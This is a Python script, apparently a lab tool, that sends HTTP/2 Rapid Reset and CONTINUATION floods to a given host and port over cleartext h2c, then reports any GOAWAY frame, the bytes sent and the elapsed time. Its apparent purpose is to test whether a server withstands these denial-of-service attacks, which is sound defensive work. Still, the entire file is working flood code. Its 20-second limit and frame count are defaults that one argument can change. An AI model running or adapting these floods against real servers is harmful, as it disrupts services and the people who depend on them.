"""An abusive HTTP/2 client for the lab (h2c with prior knowledge), built on the `h2` library.

    python h2_flood.py rapid-reset HOST PORT [COUNT]    # COUNT x (HEADERS, RST_STREAM)
    python h2_flood.py continuation HOST PORT [COUNT]   # HEADERS, then COUNT CONTINUATIONs

Sends the flood in batches while reading what the server answers, until the server closes the
connection, the flood is all sent, or 20 s passed (bounded in count and time), and prints one
JSON line: the GOAWAY seen (`error_code`, `debug` text, or null), the bytes sent, the seconds.
Runs under the project's virtual environment (h2, hpack and hyperframe), inside a lab pod.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import hpack
from hyperframe.frame import ContinuationFrame, Frame, GoAwayFrame, HeadersFrame

DEADLINE = 20.0
BATCH = 64 * 1024  # bytes per send


def _rapid_reset(conn: h2.connection.H2Connection, host: str, count: int):
    head = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", host)]
    for _ in range(count):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, head, end_stream=True)
        conn.reset_stream(sid)
        yield conn.data_to_send()


def _continuation(conn: h2.connection.H2Connection, host: str, count: int):
    sid = conn.get_next_available_stream_id()
    block = hpack.Encoder().encode(
        [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", host)]
    )
    yield HeadersFrame(sid, data=block).serialize()  # no END_HEADERS: a block left open
    filler = b"\x00" * 1024
    for _ in range(count):
        yield ContinuationFrame(sid, data=filler).serialize()


def main() -> None:
    kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 20_000
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    goaway: dict | None = None
    closed = threading.Event()

    def read() -> None:  # the server's frames, parsed with hyperframe (h2's frame layer)
        nonlocal goaway
        buffer = bytearray()
        sock.settimeout(DEADLINE)
        try:
            while chunk := sock.recv(65536):
                buffer += chunk
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer)[:9])
                    if len(buffer) < 9 + length:
                        break
                    frame.parse_body(memoryview(buffer)[9 : 9 + length])
                    del buffer[: 9 + length]
                    if isinstance(frame, GoAwayFrame) and goaway is None:
                        debug = frame.additional_data.decode("ascii", "replace")
                        goaway = {"error_code": frame.error_code, "debug": debug}
        except OSError:
            pass
        closed.set()

    threading.Thread(target=read, daemon=True).start()
    flood = _rapid_reset(conn, host, count) if kind == "rapid-reset" else None
    if kind == "continuation":
        flood = _continuation(conn, host, count)
    if flood is None:
        raise SystemExit(f"unknown flood {kind!r}")
    started = time.monotonic()
    sent = 0
    pending = bytearray()
    try:
        for data in flood:
            pending += data
            if len(pending) >= BATCH:
                sock.sendall(pending)
                sent += len(pending)
                pending.clear()
            if closed.is_set() or time.monotonic() - started > DEADLINE:
                break
        if pending and not closed.is_set():
            sock.sendall(pending)
            sent += len(pending)
    except OSError:
        pass  # the server closed while we were sending: what a flood should see
    closed.wait(max(0.0, DEADLINE - (time.monotonic() - started)))
    sock.close()
    seconds = round(time.monotonic() - started, 3)
    print(json.dumps({"goaway": goaway, "sent": sent, "seconds": seconds}))


if __name__ == "__main__":
    main()
